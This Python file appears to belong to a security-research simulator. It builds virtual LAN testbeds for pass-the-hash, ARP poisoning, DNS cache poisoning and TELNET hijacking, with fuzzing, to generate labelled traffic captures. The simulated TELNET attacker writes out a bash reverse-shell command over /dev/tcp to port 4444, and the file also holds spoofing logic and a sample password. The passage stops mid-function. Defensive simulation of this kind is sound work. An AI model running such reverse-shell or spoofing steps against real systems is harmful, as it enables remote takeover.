"""The four simulated testbeds and their drivers.

Each iteration builds a fresh LAN, runs the benign or malicious activity to
completion on the virtual clock and returns what the victim captured. All
randomness of an iteration comes from one generator, so a session is a pure
function of (kind, mode, plan, seed, iteration index).
"""

from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Callable, Optional

import numpy as np

from . import authp
from .errors import ConfigError, InvalidPlanForScenario
from .fuzz import EMPTY_PLAN, FuzzPlan, SuccessOracle, fuzz_packet, reroll_identity, select_fields
from .lan import DhcpPool, Host, Lan, random_local_mac
from .models import FieldTrial
from .packet import BROADCAST_MAC, Packet, int_to_ip, ip_to_int, make_packet, str_to_mac
from .rng import child_rng, make_rng, randint
from .schemas import ETHERTYPE_ARP, ETHERTYPE_IP, PROTO_TCP, PROTO_UDP, find_field
from .session import MALICIOUS, MODES, SCENARIOS, Session, attack_success

FIN, SYN, RST, PSH, ACK = 0x001, 0x002, 0x004, 0x008, 0x010

ATTACK_DOMAIN = "portal.payroll-update.example"
BENIGN_DOMAIN_COUNT = 4098
LOW_DELAY_TOS = 0x10


@dataclass(frozen=True)
class NetProfile:
    """Tick latencies and pacing of the simulated testbeds."""

    lan_latency: int = 1
    spoof_delay: int = 2  # attacker processing before a spoofed frame leaves
    wan_latency: int = 4  # local resolver <-> global DNS, each way
    client_pace: int = 1  # client think time between scripted steps
    idle_wait: int = 4  # quiet ticks the TELNET attacker waits for
    client_think: int = 10  # idle time before a hijacked client exits
    pth_wait: int = 25  # attacker monitoring phase after exec
    arp_replies: int = 8
    arp_interval: int = 3
    dns_queries: int = 3  # benign lookups per session
    typo_rate: float = 0.02

    def __post_init__(self):
        for name, value in vars(self).items():
            if value < 0 or (name != "typo_rate" and not isinstance(value, int)) or self.typo_rate > 1:
                raise ConfigError(f"invalid network profile value {name}={value!r}")
        if self.dns_queries < 1:
            raise ConfigError("dns_queries must be >= 1")


DEFAULT_PROFILE = NetProfile()

BASE_HOSTS = {
    "router": ("router", "10.0.0.1", "52:54:00:00:00:01"),
    "server": ("server", "10.0.0.10", "52:54:00:00:00:0a"),
    "client": ("client", "10.0.0.20", "52:54:00:00:00:14"),
    "dns_local": ("dns_local", "10.0.0.53", "52:54:00:00:00:35"),
    "attacker": ("attacker", "10.0.0.66", "52:54:00:00:00:42"),
    # frames from beyond the router carry the router's MAC
    "dns_global": ("dns_global", "8.8.8.8", "52:54:00:00:00:01"),
}

LAN_FIRST = ip_to_int("10.0.0.1")
LAN_LAST = ip_to_int("10.0.0.254")


def _base_host(host_id: str) -> Host:
    role, ip, mac = BASE_HOSTS[host_id]
    return Host(host_id, str_to_mac(mac), ip_to_int(ip), role)


class _Testbed:
    """Shared setup: hosts, capture point and per-session identity reroll."""

    victim = ""
    host_ids: tuple[str, ...] = ()

    def __init__(
        self,
        mode: str,
        plan: FuzzPlan,
        rng: np.random.Generator,
        profile: NetProfile,
        fuzz_benign: bool = False,
    ):
        self.mode = mode
        self.plan = plan
        self.fuzz_benign = fuzz_benign
        self.rng = rng
        self.profile = profile
        self.lan = Lan(DhcpPool(), victim=self.victim)
        self.meta: dict = {}
        for host_id in self.host_ids:
            self.lan.add_host(_base_host(host_id))
        if plan.blist:
            for host_id in ("client", "attacker"):
                if host_id in self.lan.hosts:
                    reroll_identity(self.lan.hosts[host_id], self.lan, rng)

    @property
    def malicious(self) -> bool:
        return self.mode == MALICIOUS

    def host(self, host_id: str) -> Host:
        return self.lan.hosts[host_id]

    def fuzz(self, packet: Packet) -> Packet:
        if not (self.malicious or self.fuzz_benign):
            return packet
        return fuzz_packet(packet, self.plan, self.rng)

    def run(self) -> tuple[tuple, bool, dict]:
        self.start()
        self.lan.run()
        self.meta["complete"] = True
        self.finish()
        return tuple(self.lan.captured), self.outcome(), self.meta

    def start(self) -> None:
        raise NotImplementedError

    def finish(self) -> None:
        pass

    def outcome(self) -> bool:
        raise NotImplementedError


def _tcp_frame(
    src: Host,
    dst: Host,
    sport: int,
    dport: int,
    seq: int,
    ack: int,
    flags: int,
    top: Optional[tuple] = None,
    tos: int = 0,
    ip_src: Optional[int] = None,
    eth_dst: Optional[int] = None,
    crafted: Optional[dict] = None,
) -> Packet:
    """Kernel-built frame unless `crafted` overrides IP and TCP header defaults."""
    crafted = crafted or {}
    layers = [
        ("ETH", {"dst": dst.mac if eth_dst is None else eth_dst, "src": src.mac, "type": ETHERTYPE_IP}),
        (
            "IP",
            {
                "tos": tos,
                "protocol": PROTO_TCP,
                "src": src.ip if ip_src is None else ip_src,
                "dst": dst.ip,
                **crafted.get("IP", {}),
            },
        ),
        (
            "TCP",
            {
                "sport": sport,
                "dport": dport,
                "seq": seq,
                "ack": ack,
                "flags": flags,
                **crafted.get("TCP", {}),
            },
        ),
    ]
    if top is not None:
        layers.append(top)
    return make_packet(*layers)


# --------------------------------------------------------------------------
# pass-the-hash over AUTHP


class _AuthpServer:
    """Victim endpoint. Accepts both proof mechanisms."""

    def __init__(self, bed: "_PthTestbed"):
        self.bed = bed
        self.stage: Optional[str] = None
        self.mechanism = authp.MECHANISM["none"]
        self.challenge = 0
        self.token = 0
        self.seq = randint(bed.rng, 0, 0xFFFFFFFF)

    def on_receive(self, lan: Lan, packet: Packet, src: str) -> None:
        msg = packet.layer("AUTHP")
        stage = authp.AUTHP_STAGES[msg["stage"]]
        reply: dict = {
            "stage": msg["stage"],
            "process_id": msg["process_id"],
            "multiplex_id": msg["multiplex_id"],
            "flags": 0x0098,
        }
        if stage != authp.NEXT_STAGE[self.stage]:
            reply["status"] = authp.STATUS["error"]
        elif stage == "negotiate":
            reply["status"] = authp.STATUS["ok"]
        elif stage == "auth_request":
            self.mechanism = msg["mechanism"]
            if self.mechanism == authp.MECHANISM["none"]:
                reply["status"] = authp.STATUS["error"]
            else:
                self.challenge = randint(self.bed.rng, 1, (1 << 64) - 1)
                reply["status"] = authp.STATUS["ok"]
                reply["stage"] = authp.STAGE["challenge"]
                reply["payload"] = self.challenge.to_bytes(8, "big")
                stage = "challenge"
        elif stage == "challenge_response":
            proof = int.from_bytes(msg["payload"][:8], "big")
            expected = authp.hash_only_proof(self.challenge, self.bed.stored_hash)
            reply["stage"] = authp.STAGE["auth_response"]
            stage = "auth_response"
            if proof == expected:
                self.token = randint(self.bed.rng, 1, 0xFFFFFFFF)
                reply["status"] = authp.STATUS["ok"]
                reply["session_token"] = self.token
            else:
                reply["status"] = authp.STATUS["denied"]
                stage = None
        else:  # task
            reply["command"] = msg["command"]
            reply["session_token"] = self.token
            if self.token == 0 or msg["session_token"] != self.token:
                reply["status"] = authp.STATUS["bad_token"]
            else:
                reply["status"] = authp.STATUS["ok"]
                reply["payload"] = b"OK " + msg["payload"][:24]
                if msg["command"] == authp.COMMAND["exec"] and msg["payload"] == (
                    authp.REVERSE_SHELL_COMMAND.encode()
                ):
                    self.bed.meta["reverse_shell"] = True
        if reply.get("status") == authp.STATUS["ok"] and stage is not None:
            self.stage = stage
        reply["mechanism"] = self.mechanism
        self.bed.reply(reply)


class _AuthpClient:
    """Benign client or pass-the-hash attacker driving one session."""

    def __init__(self, bed: "_PthTestbed", host_id: str):
        self.bed = bed
        self.host_id = host_id
        self.port = randint(bed.rng, 49152, 65535)
        self.seq = randint(bed.rng, 0, 0xFFFFFFFF)
        self.token = 0
        self.tasks: list[tuple[str, bytes]] = []
        self.process_id = 0xFEFF
        self.multiplex_id = 0

    def send(self, **fields) -> None:
        self.multiplex_id = (self.multiplex_id + 1) & 0xFFFF
        fields.setdefault("session_token", self.token)
        fields.setdefault("process_id", self.process_id)
        fields.setdefault("multiplex_id", self.multiplex_id)
        self.bed.request(self, fields)

    def start(self) -> None:
        self.send(stage=authp.STAGE["negotiate"])

    def on_receive(self, lan: Lan, packet: Packet, src: str) -> None:
        msg = packet.layer("AUTHP")
        stage = authp.AUTHP_STAGES[msg["stage"]]
        ok = msg["status"] == authp.STATUS["ok"]
        self.bed.meta.setdefault("statuses", []).append(authp.AUTHP_STATUS[msg["status"]])
        if not ok:
            self.bed.meta["failed_at"] = stage
            return
        pace = self.bed.profile.client_pace
        if stage == "negotiate":
            action = lambda: self.send(
                stage=authp.STAGE["auth_request"],
                mechanism=self.bed.mechanism,
                payload=self.bed.username.encode(),
            )
        elif stage == "challenge":
            challenge = int.from_bytes(msg["payload"][:8], "big")
            proof = self.bed.prove(challenge)
            action = lambda: self.send(
                stage=authp.STAGE["challenge_response"], payload=proof.to_bytes(8, "big")
            )
        elif stage == "auth_response":
            self.token = msg["session_token"]
            self.bed.meta["authenticated"] = True
            action = self.next_task
        else:
            action = self.next_task
        self.bed.lan.schedule(pace, action)

    def next_task(self) -> None:
        if not self.tasks:
            self.bed.meta["tasks_done"] = True
            if self.bed.malicious:
                # monitor the exploit before declaring the session over
                self.bed.lan.schedule(self.bed.profile.pth_wait, self.bed.check_shell)
            return
        command, payload = self.tasks.pop(0)
        self.send(stage=authp.STAGE["task"], command=authp.COMMAND[command], payload=payload)


class _PthTestbed(_Testbed):
    victim = "server"
    host_ids = ("router", "server", "client", "attacker")

    def start(self) -> None:
        self.password = "Winter2024!"
        self.stored_hash = authp.password_hash(self.password)
        self.username = "alice"
        self.server = _AuthpServer(self)
        driver = "attacker" if self.malicious else "client"
        self.client = _AuthpClient(self, driver)
        self.lan.agents["server"] = self.server
        self.lan.agents[driver] = self.client
        if self.malicious:
            self.mechanism = authp.MECHANISM["hash_only"]
            chunks = [self.rng.bytes(48) for _ in range(authp.PAYLOAD_UPLOAD_CHUNKS)]
            self.client.tasks = [("write", c) for c in chunks]
            self.client.tasks.append(("exec", authp.REVERSE_SHELL_COMMAND.encode()))
            self.meta["reverse_shell"] = False
        else:
            self.mechanism = authp.MECHANISM["password_proof"]
            command = authp.BENIGN_COMMANDS[int(self.rng.integers(len(authp.BENIGN_COMMANDS)))]
            self.meta["command"] = command.text
            self.client.tasks = [
                (command.command, f"{command.text}#{i}".encode()) for i in range(command.exchanges)
            ]
            self.typo = bool(self.rng.random() < self.profile.typo_rate)
        self.meta["mechanism"] = authp.AUTHP_MECHANISMS[self.mechanism]
        self.client.start()

    def prove(self, challenge: int) -> int:
        if self.malicious:
            return authp.hash_only_proof(challenge, self.stored_hash)
        password = self.password[::-1] if self.typo else self.password
        return authp.password_proof(challenge, password)

    def request(self, client: _AuthpClient, fields: dict) -> None:
        payload = fields.get("payload", b"")
        frame = _tcp_frame(
            self.host(client.host_id),
            self.host("server"),
            client.port,
            445,
            client.seq,
            self.server.seq,
            PSH | ACK,
            ("AUTHP", fields),
        )
        client.seq = (client.seq + 36 + len(payload)) & 0xFFFFFFFF
        self.lan.send(client.host_id, "server", self.fuzz(frame), self.profile.lan_latency)

    def reply(self, fields: dict) -> None:
        client = self.client
        payload = fields.get("payload", b"")
        frame = _tcp_frame(
            self.host("server"),
            self.host(client.host_id),
            445,
            client.port,
            self.server.seq,
            client.seq,
            PSH | ACK,
            ("AUTHP", fields),
        )
        self.server.seq = (self.server.seq + 36 + len(payload)) & 0xFFFFFFFF
        self.lan.send("server", client.host_id, frame, self.profile.lan_latency)

    def check_shell(self) -> None:
        self.meta["monitored_until"] = self.lan.clock

    def outcome(self) -> bool:
        if self.malicious:
            return bool(self.meta.get("reverse_shell"))
        return bool(self.meta.get("tasks_done"))


# --------------------------------------------------------------------------
# ARP poisoning


class _ArpHost:
    """Answers requests for its own address; the victim also caches mappings."""

    def __init__(self, bed: "_ArpTestbed", host_id: str):
        self.bed = bed
        self.host_id = host_id
        self.table: dict[int, int] = {}

    def on_receive(self, lan: Lan, packet: Packet, src: str) -> None:
        if not packet.has_layer("ARP"):
            return
        arp = packet.layer("ARP")
        me = lan.hosts[self.host_id]
        if self.host_id == lan.victim:
            # no validation: every ARP frame overwrites the cache
            self.table[arp["sender_ip"]] = arp["sender_mac"]
        if arp["opcode"] == 1 and arp["target_ip"] == me.ip and src in lan.hosts:
            asker = lan.hosts[src]
            reply = _arp_frame(
                eth_dst=arp["sender_mac"],
                eth_src=me.mac,
                opcode=2,
                sender_mac=me.mac,
                sender_ip=me.ip,
                target_mac=arp["sender_mac"],
                target_ip=arp["sender_ip"],
                padded=True,
            )
            lan.send(self.host_id, asker.id, reply, self.bed.profile.lan_latency)


def _arp_frame(eth_dst, eth_src, opcode, sender_mac, sender_ip, target_mac, target_ip, padded):
    return make_packet(
        ("ETH", {"dst": eth_dst, "src": eth_src, "type": ETHERTYPE_ARP}),
        (
            "ARP",
            {
                "opcode": opcode,
                "sender_mac": sender_mac,
                "sender_ip": sender_ip,
                "target_mac": target_mac,
                "target_ip": target_ip,
            },
        ),
        # frames from other NICs arrive padded to the 60-byte minimum
        trailer=b"\x00" * 18 if padded else b"",
    )


class _ArpTestbed(_Testbed):
    victim = "client"
    host_ids = ("router", "client", "attacker")

    def start(self) -> None:
        self.agents = {h: _ArpHost(self, h) for h in self.host_ids}
        self.lan.agents.update(self.agents)
        if self.malicious:
            self.meta["spoofed"] = []
            for i in range(self.profile.arp_replies):
                self.lan.schedule(i * self.profile.arp_interval, self.poison)
        else:
            user = self.host("client")
            targets = [ip for ip in range(LAN_FIRST, LAN_LAST + 1) if ip != user.ip]
            for i, ip in enumerate(targets):
                self.lan.schedule(i, lambda ip=ip: self.ask(ip))

    def ask(self, ip: int) -> None:
        user = self.host("client")
        request = _arp_frame(BROADCAST_MAC, user.mac, 1, user.mac, user.ip, 0, ip, padded=False)
        self.lan.broadcast("client", request, self.profile.lan_latency)

    def poison(self) -> None:
        attacker = self.host("attacker")
        owned = self.lan.macs()
        fake_mac = random_local_mac(self.rng)
        while fake_mac in owned:
            fake_mac = random_local_mac(self.rng)
        fake_ip = self.lan.pool.random_address(self.rng)
        frame = _arp_frame(BROADCAST_MAC, attacker.mac, 2, fake_mac, fake_ip, 0, fake_ip, padded=True)
        frame = self.fuzz(frame)
        self.meta["spoofed"].append([frame.get("ARP.sender_ip"), frame.get("ARP.sender_mac")])
        self.lan.broadcast("attacker", frame, self.profile.lan_latency + self.profile.spoof_delay)

    def finish(self) -> None:
        table = self.agents["client"].table
        self.meta["arp_table"] = sorted([ip, mac] for ip, mac in table.items())
        self.meta["lan_macs"] = sorted(self.lan.macs())
        self.meta["pool"] = [self.lan.pool.first, self.lan.pool.last]

    def outcome(self) -> bool:
        if not self.malicious:
            return True
        return attack_success(Session("", "arp", self.mode, (), False, self.meta))


# --------------------------------------------------------------------------
# DNS cache poisoning


def encode_question(domain: str, qtype: int = 1, qclass: int = 1) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in domain.strip(".").split("."))
    return labels + b"\x00" + qtype.to_bytes(2, "big") + qclass.to_bytes(2, "big")


def decode_question(question: bytes) -> str:
    labels, i = [], 0
    while question[i]:
        labels.append(question[i + 1 : i + 1 + question[i]].decode())
        i += 1 + question[i]
    return ".".join(labels)


def true_address(domain: str) -> int:
    """Authoritative A record of a domain in the simulated internet."""
    value = authp.mix_hash(domain.encode(), key=0x444E53)
    return ip_to_int("1.0.0.0") + value % (ip_to_int("223.255.255.255") - ip_to_int("1.0.0.0"))


_WORDS = (
    "alpha", "atlas", "beacon", "cedar", "cobalt", "delta", "ember", "falcon",
    "garnet", "harbor", "indigo", "juniper", "kepler", "lumen", "maple", "nimbus",
    "onyx", "orbit", "pixel", "quartz", "raven", "sierra", "summit", "tango",
    "umber", "vertex", "willow", "xenon", "yonder", "zephyr", "aurora", "basalt",
)
_TLDS = ("com", "net", "org", "io", "info", "co")


def benign_domains(count: int = BENIGN_DOMAIN_COUNT) -> tuple[str, ...]:
    """Deterministic list of benign domain names, disjoint from ATTACK_DOMAIN."""
    rng = make_rng(0x444F4D)
    names: dict[str, None] = {}
    while len(names) < count:
        a, b = rng.integers(len(_WORDS), size=2)
        name = f"{_WORDS[a]}-{_WORDS[b]}{int(rng.integers(100))}.{_TLDS[int(rng.integers(len(_TLDS)))]}"
        if name != ATTACK_DOMAIN:
            names[name] = None
    return tuple(names)


BENIGN_DOMAINS = benign_domains()


def _dns_frame(src: Host, dst: Host, sport: int, dport: int, dns: dict, question: bytes,
               answer: Optional[int] = None, ip_src: Optional[int] = None,
               eth_src: Optional[int] = None) -> Packet:
    layers = [
        ("ETH", {"dst": dst.mac, "src": src.mac if eth_src is None else eth_src, "type": ETHERTYPE_IP}),
        ("IP", {"protocol": PROTO_UDP, "src": src.ip if ip_src is None else ip_src, "dst": dst.ip}),
        ("UDP", {"sport": sport, "dport": dport}),
        ("DNS", dns),
        ("QD", {"question": question}),
    ]
    if answer is not None:
        layers.append(("RR", {"rdata": answer}))
    return make_packet(*layers)


RESPONSE_FLAGS = {"qr": 1, "rd": 1, "ra": 1}


class _Resolver:
    """Local caching resolver; the victim. Takes the first matching answer."""

    def __init__(self, bed: "_DnsTestbed"):
        self.bed = bed
        self.pending: dict[tuple[int, int], tuple[int, int, bytes]] = {}
        self.cache: dict[str, int] = {}

    def on_receive(self, lan: Lan, packet: Packet, src: str) -> None:
        dns = packet.layer("DNS")
        question = packet.get("QD.question")
        if dns["qr"] == 0 and packet.get("UDP.dport") == 53:
            self.forward(packet, question)
            return
        key = (dns["id"], packet.get("UDP.dport"))
        glob = lan.hosts["dns_global"]
        if (
            key not in self.pending
            or packet.get("IP.src") != glob.ip
            or packet.get("UDP.sport") != 53
            or dns["rcode"] != 0
            or dns["qr"] != 1
            or not packet.has_layer("RR")
        ):
            return
        client_port, client_id, asked = self.pending.pop(key)
        if asked != question:
            return
        answer = packet.get("RR.rdata")
        self.cache[decode_question(question)] = answer
        me, client = lan.hosts["dns_local"], lan.hosts["client"]
        reply = _dns_frame(me, client, 53, client_port, {"id": client_id, **RESPONSE_FLAGS}, question, answer)
        lan.send("dns_local", "client", reply, self.bed.profile.lan_latency)

    def forward(self, query: Packet, question: bytes) -> None:
        lan, rng = self.bed.lan, self.bed.rng
        qid, port = randint(rng, 0, 0xFFFF), randint(rng, 1024, 65535)
        self.pending[(qid, port)] = (query.get("UDP.sport"), query.get("DNS.id"), question)
        me, glob = lan.hosts["dns_local"], lan.hosts["dns_global"]
        upstream = _dns_frame(me, glob, port, 53, {"id": qid, "rd": 1}, question)
        lan.send("dns_local", "dns_global", upstream, self.bed.profile.wan_latency)


class _GlobalDns:
    def __init__(self, bed: "_DnsTestbed"):
        self.bed = bed

    def on_receive(self, lan: Lan, packet: Packet, src: str) -> None:
        question = packet.get("QD.question")
        me, local = lan.hosts["dns_global"], lan.hosts["dns_local"]
        dns = {"id": packet.get("DNS.id"), **RESPONSE_FLAGS}
        answer = true_address(decode_question(question))
        reply = _dns_frame(me, local, 53, packet.get("UDP.sport"), dns, question, answer)
        lan.send("dns_global", "dns_local", reply, self.bed.profile.wan_latency)


class _DnsUser:
    def __init__(self, bed: "_DnsTestbed"):
        self.bed = bed

    def on_receive(self, lan: Lan, packet: Packet, src: str) -> None:
        if packet.has_layer("RR"):
            answer = packet.get("RR.rdata")
            self.bed.meta["received_ip"] = answer
            self.bed.meta["answers"][decode_question(packet.get("QD.question"))] = answer


class _DnsTestbed(_Testbed):
    victim = "dns_local"
    host_ids = ("router", "client", "dns_local", "dns_global", "attacker")

    def start(self) -> None:
        self.lan.agents.update(
            {"dns_local": _Resolver(self), "dns_global": _GlobalDns(self), "client": _DnsUser(self)}
        )
        if self.malicious:
            domains = [ATTACK_DOMAIN]
            self.lan.sniffers.append(self.sniff)
        else:
            picks = self.rng.choice(len(BENIGN_DOMAINS), size=self.profile.dns_queries, replace=False)
            domains = [BENIGN_DOMAINS[int(i)] for i in picks]
        self.meta.update(
            domain=domains[0], true_ip=true_address(domains[0]), received_ip=None, domains=domains,
            answers={},
        )
        for i, domain in enumerate(domains):
            self.lan.schedule(i * self.profile.client_pace, lambda d=domain: self.query(d))

    def query(self, domain: str) -> None:
        user, local = self.host("client"), self.host("dns_local")
        frame = _dns_frame(
            user, local, randint(self.rng, 49152, 65535), 53,
            {"id": randint(self.rng, 0, 0xFFFF), "rd": 1}, encode_question(domain),
        )
        self.lan.send("client", "dns_local", frame, self.profile.lan_latency)

    def sniff(self, lan: Lan, frame: Packet, src: str, dst: str) -> None:
        if src != "dns_local" or dst != "dns_global":
            return
        if decode_question(frame.get("QD.question")) != ATTACK_DOMAIN:
            return
        lan.schedule(self.profile.spoof_delay, lambda: self.spoof(frame))

    def spoof(self, query: Packet) -> None:
        attacker, local, glob = self.host("attacker"), self.host("dns_local"), self.host("dns_global")
        truth = self.meta["true_ip"]
        # point the victim at the attacker
        fake = attacker.ip
        while fake == truth:
            fake = randint(self.rng, ip_to_int("1.0.0.0"), ip_to_int("223.255.255.255"))
        dns = {"id": query.get("DNS.id"), **RESPONSE_FLAGS}
        frame = _dns_frame(
            glob, local, 53, query.get("UDP.sport"), dns, query.get("QD.question"), fake,
            eth_src=attacker.mac,
        )
        frame = self.fuzz(frame)
        self.meta["falsified_ip"] = frame.get("RR.rdata")
        self.lan.send("attacker", "dns_local", frame, self.profile.lan_latency)

    def outcome(self) -> bool:
        if self.malicious:
            return attack_success(Session("", "dns", self.mode, (), False, self.meta))
        answers = self.meta["answers"]
        return all(answers.get(d) == true_address(d) for d in self.meta["domains"])


# --------------------------------------------------------------------------
# TELNET session hijacking

TELNET_COMMANDS = (
    "ls -la", "pwd", "whoami", "uptime", "df -h", "free -m", "cat /etc/hostname",
    "cat notes.txt", "head -n 20 report.csv", "tail -n 50 /var/log/syslog",
    "echo hello > greeting.txt", "cp report.csv backup.csv", "mkdir -p archive",
    "mv old.log archive/", "touch .stamp", "rm -f tmp.txt", "date", "id", "uname -a",
    "ps aux", "top -b -n 1", "netstat -tn", "ip addr", "ping -c 1 10.0.0.1",
    "wget -q http://10.0.0.1/index.html", "curl -s http://10.0.0.1/status",
    "nslookup intranet.local", "ss -lt", "du -sh .", "wc -l report.csv",
    "grep error app.log", "history",
)
LOGIN = (b"alice\r\n", b"Winter2024!\r\n")
SHELL_PORT = 4444  # attacker's listener
SHELL_CLIENT_PORT = 40000  # victim side of the reverse connection


def injector_headers(rng: np.random.Generator) -> dict:
    """IP and TCP header values a raw-socket injection tool writes."""
    # no TOS or DF, random id, ttl 255, fixed small window
    return {
        "IP": {"tos": 0, "identification": randint(rng, 0, 0xFFFF), "flags": 0, "ttl": 255},
        "TCP": {"window": 8192},
    }


def _output_for(line: bytes) -> bytes:
    n = 1 + authp.mix_hash(line) % 6
    return (line.strip() + b": ok\r\n") * n + b"$ "


class _TelnetServer:
    """Victim TELNET daemon with strict in-order TCP acceptance."""

    def __init__(self, bed: "_TelnetTestbed"):
        self.bed = bed
        self.rcv_nxt = bed.client_isn
        self.snd_nxt = bed.server_isn
        self.open = True
        self.shell_seq = randint(bed.rng, 0, 0xFFFFFFFF)

    def on_receive(self, lan: Lan, packet: Packet, src: str) -> None:
        index = len(lan.captured) - 1
        if src == "attacker" and packet.get("TCP.dport") == SHELL_CLIENT_PORT:
            self.bed.meta["shell"].append(index)
            self.shell_step(packet)
            return
        if not packet.has_layer("TELNET"):
            return
        if src == "attacker":
            self.bed.meta["injected"].append(index)
        client = lan.hosts["client"]
        tcp = packet.layer("TCP")
        flags = tcp["flags"]
        if not (
            self.open
            and packet.get("IP.src") == client.ip
            and tcp["sport"] == self.bed.client_port
            and tcp["dport"] == 23
            and tcp["seq"] == self.rcv_nxt
            and tcp["ack"] == self.snd_nxt
            and flags & ACK
            and not flags & (SYN | RST | FIN)
        ):
            return
        line = packet.get("TELNET.data")
        self.rcv_nxt = (self.rcv_nxt + len(line)) & 0xFFFFFFFF
        if line.strip() == b"exit":
            output = b"logout\r\n"
            self.open = False
        else:
            output = _output_for(line)
        me = lan.hosts["server"]
        reply = _tcp_frame(
            me, client, 23, self.bed.client_port, self.snd_nxt, self.rcv_nxt, PSH | ACK,
            ("TELNET", {"data": output}), tos=LOW_DELAY_TOS,
        )
        self.snd_nxt = (self.snd_nxt + len(output)) & 0xFFFFFFFF
        lan.send("server", "client", reply, self.bed.profile.lan_latency)
        if src == "attacker":
            self.bed.meta["injected_responses"].append(len(lan.captured) - 1)
        if b"/dev/tcp/" in line:
            self.connect_back()

    def connect_back(self) -> None:
        lan = self.bed.lan
        syn = _tcp_frame(
            lan.hosts["server"], lan.hosts["attacker"], SHELL_CLIENT_PORT, SHELL_PORT,
            self.shell_seq, 0, SYN,
        )
        lan.send("server", "attacker", syn, self.bed.profile.lan_latency)
        self.bed.meta["shell"].append(len(lan.captured) - 1)

    def shell_step(self, packet: Packet) -> None:
        lan = self.bed.lan
        me, attacker = lan.hosts["server"], lan.hosts["attacker"]
        tcp = packet.layer("TCP")
        if tcp["flags"] & SYN:
            # SYN-ACK from the listener: complete the handshake
            self.shell_seq = (self.shell_seq + 1) & 0xFFFFFFFF
            ack = (tcp["seq"] + 1) & 0xFFFFFFFF
            frame = _tcp_frame(me, attacker, SHELL_CLIENT_PORT, SHELL_PORT, self.shell_seq, ack, ACK)
            self.bed.meta["reverse_shell"] = True
        elif packet.has_layer("TELNET"):
            ack = (tcp["seq"] + len(packet.get("TELNET.data"))) & 0xFFFFFFFF
            output = b"uid=0(root) gid=0(root)\n"
            frame = _tcp_frame(
                me, attacker, SHELL_CLIENT_PORT, SHELL_PORT, self.shell_seq, ack, PSH | ACK,
                ("TELNET", {"data": output}),
            )
            self.shell_seq = (self.shell_seq + len(output)) & 0xFFFFFFFF
        else:
            return
        lan.send("server", "attacker", frame, self.bed.profile.lan_latency)
        self.bed.meta["shell"].append(len(lan.captured) - 1)


class _TelnetClient:
    def __init__(self, bed: "_TelnetTestbed", script: list[bytes]):
        self.bed = bed
        self.script = script
        self.seq = bed.client_isn
        self.ack = bed.server_isn
        self.sent = 0

    def send_next(self) -> None:
        if self.sent >= len(self.script):
            return
        line = self.script[self.sent]
        self.sent += 1
        lan = self.bed.lan
        frame = _tcp_frame(
            lan.hosts["client"], lan.hosts["server"], self.bed.client_port, 23, self.seq, self.ack,
            PSH | ACK, ("TELNET", {"data": line}), tos=LOW_DELAY_TOS,
        )
        self.seq = (self.seq + len(line)) & 0xFFFFFFFF
        lan.send("client", "server", frame, self.bed.profile.lan_latency)

    def on_receive(self, lan: Lan, packet: Packet, src: str) -> None:
        if not packet.has_layer("TELNET"):
            return
        self.ack = (packet.get("TCP.seq") + len(packet.get("TELNET.data"))) & 0xFFFFFFFF
        self.bed.meta["answered"] += 1
        if self.sent >= len(self.script):
            return
        profile = self.bed.profile
        # a hijacked-scenario client idles before its final exit
        last = self.sent == len(self.script) - 1
        delay = profile.client_think if self.bed.malicious and last else profile.client_pace
        lan.schedule(delay, self.send_next)


class _TelnetAttacker:
    """Sniffs the session and injects one command once it goes quiet."""

    def __init__(self, bed: "_TelnetTestbed"):
        self.bed = bed
        self.last_activity = -1
        self.next_seq: Optional[int] = None
        self.next_ack: Optional[int] = None
        self.injected = False

    def sniff(self, lan: Lan, frame: Packet, src: str, dst: str) -> None:
        if {src, dst} != {"client", "server"} or not frame.has_layer("TELNET"):
            return
        self.last_activity = lan.clock
        if src == "server":
            self.next_seq = frame.get("TCP.ack")
            self.next_ack = (frame.get("TCP.seq") + len(frame.get("TELNET.data"))) & 0xFFFFFFFF
            seen = lan.clock
            lan.schedule(self.bed.profile.idle_wait, lambda: self.maybe_inject(seen))

    def maybe_inject(self, seen: int) -> None:
        if self.injected or self.last_activity != seen or not self.bed.server.open:
            return
        self.injected = True
        lan = self.bed.lan
        attacker, server, client = lan.hosts["attacker"], lan.hosts["server"], lan.hosts["client"]
        command = f"bash -i >& /dev/tcp/{int_to_ip(attacker.ip)}/{SHELL_PORT} 0>&1\r\n".encode()
        frame = _tcp_frame(
            attacker, server, self.bed.client_port, 23, self.next_seq, self.next_ack, PSH | ACK,
            ("TELNET", {"data": command}), ip_src=client.ip, crafted=injector_headers(self.bed.rng),
        )
        frame = self.bed.fuzz(frame)
        lan.send("attacker", "server", frame, self.bed.profile.lan_latency + self.bed.profile.spoof_delay)

    def on_receive(self, lan: Lan, packet: Packet, src: str) -> None:
        tcp = packet.layer("TCP")
        if tcp["dport"] != SHELL_PORT:
            return
        me, server = lan.hosts["attacker"], lan.hosts["server"]
        if not tcp["flags"] & SYN:
            return
        ack = (tcp["seq"] + 1) & 0xFFFFFFFF
        seq = randint(self.bed.rng, 0, 0xFFFFFFFF)
        frame = _tcp_frame(me, server, SHELL_PORT, SHELL_CLIENT_PORT, seq, ack, SYN | ACK)
        lan.send("attacker", "server", frame, self.bed.profile.lan_latency)
        command = b"id\n"
        cmd = _tcp_frame(
            me, server, SHELL_PORT, SHELL_CLIENT_PORT, (seq + 1) & 0xFFFFFFFF, ack, PSH | ACK,
            ("TELNET", {"data": command}),
        )
        # first command goes out once the handshake has settled
        lan.schedule(
            self.bed.profile.lan_latency + 1,
            lambda: lan.send("attacker", "server", cmd, self.bed.profile.lan_latency),
        )


class _TelnetTestbed(_Testbed):
    victim = "server"
    host_ids = ("router", "server", "client", "attacker")

    def start(self) -> None:
        self.client_port = randint(self.rng, 49152, 65535)
        self.client_isn = randint(self.rng, 0, 0xFFFFFFFF)
        self.server_isn = randint(self.rng, 0, 0xFFFFFFFF)
        count = 1 if self.malicious else 3
        picks = self.rng.choice(len(TELNET_COMMANDS), size=count, replace=False)
        commands = [TELNET_COMMANDS[int(i)] for i in picks]
        script = [*LOGIN, *(f"{c}\r\n".encode() for c in commands), b"exit\r\n"]
        self.meta.update(
            commands=commands, injected=[], injected_responses=[], shell=[], reverse_shell=False,
            answered=0,
        )
        self.server = _TelnetServer(self)
        self.client = _TelnetClient(self, script)
        self.lan.agents.update({"server": self.server, "client": self.client})
        if self.malicious:
            self.attacker = _TelnetAttacker(self)
            self.lan.agents["attacker"] = self.attacker
            self.lan.sniffers.append(self.attacker.sniff)
        self.client.send_next()

    def outcome(self) -> bool:
        if self.malicious:
